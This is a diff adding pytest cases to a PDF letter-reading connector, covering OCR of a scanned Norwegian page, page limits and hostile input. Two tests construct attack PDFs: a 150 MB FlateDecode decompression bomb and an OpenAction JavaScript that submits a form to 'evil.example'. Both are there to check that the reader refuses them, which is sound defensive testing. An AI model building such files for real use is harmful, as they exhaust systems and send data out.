@@ -1,11 +1,15 @@
 """What stands in a letter, whatever the file is."""
 
+import shutil
+import zlib
 from io import BytesIO
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
-from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, StreamObject
+import typst
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import DictionaryObject, EncodedStreamObject, NameObject, StreamObject, TextStringObject
 
 from connectors.letter_text import LONGEST, Letter, Unread, read_letter
 
@@ -67,3 +71,58 @@ async def test_pages_of_pictures_are_recognised_where_the_program_is(
 
 async def test_a_letter_without_an_end_is_cut() -> None:
     assert len((await read_letter(scanned(*["x" * 90] * 400))).text) <= LONGEST
+
+
+def a_picture_of(*lines: str) -> bytes:
+    """A PDF whose only page is a picture that says this, as a scanner makes it."""
+    said = "\n\n".join(lines)
+    page = f'#set page(width: 210mm, height: 297mm, margin: 25mm)\n#set text(size: 12pt, lang: "nb")\n{said}'
+    picture = typst.compile(page.encode(), format="png", ppi=300.0)
+    with TemporaryDirectory() as folder:
+        (Path(folder) / "page.png").write_bytes(picture)  # type: ignore[arg-type]  # of one page it is no list
+        sheet = Path(folder) / "sheet.typ"
+        sheet.write_text('#set page(width: 210mm, height: 297mm, margin: 0pt)\n#image("page.png", width: 210mm)')
+        made = typst.compile(sheet, root=folder, format="pdf")
+    assert isinstance(made, bytes)
+    return made
+
+
+@pytest.mark.timeout(240)
+async def test_a_scanned_page_is_read_by_the_program_itself() -> None:
+    if shutil.which("ocrmypdf") is None:
+        pytest.skip("ocrmypdf is not installed: apt-get install ocrmypdf tesseract-ocr-nor")
+    letter = await read_letter(
+        a_picture_of("Jeg er uenig i fakturaen på 802 kroner.", "KID 006402710013", "Vår på Ålesund")
+    )
+    assert letter.unread is None
+    assert letter.text.splitlines() == [
+        "Jeg er uenig i fakturaen på 802 kroner.",
+        "KID 006402710013",
+        "Vår på Ålesund",
+    ]
+
+
+async def test_of_five_hundred_pages_the_first_are_read() -> None:
+    letter = await read_letter(scanned("Dette er side en.", pages=500))
+    assert letter == Letter("Dette er side en.")
+
+
+async def test_a_page_that_swells_without_end_is_left_to_a_person() -> None:
+    writer = PdfWriter(clone_from=PdfReader(BytesIO(scanned("x"))))
+    bomb = EncodedStreamObject()
+    bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
+    bomb._data = zlib.compress(b" " * 150_000_000, 9)
+    writer.pages[0][NameObject("/Contents")] = writer._add_object(bomb)
+    into = BytesIO()
+    writer.write(into)
+    assert len(into.getvalue()) < 1_000_000
+    assert await read_letter(into.getvalue()) == Letter("", Unread.DAMAGED)
+
+
+async def test_what_a_letter_would_do_is_not_done_and_its_words_are_read() -> None:
+    writer = PdfWriter(clone_from=PdfReader(BytesIO(scanned("Hei, jeg er uenig."))))
+    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("this.submitForm('https://evil.example')")}
+    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(k): v for k, v in script.items()})
+    into = BytesIO()
+    writer.write(into)
+    assert await read_letter(into.getvalue()) == Letter("Hei, jeg er uenig.")
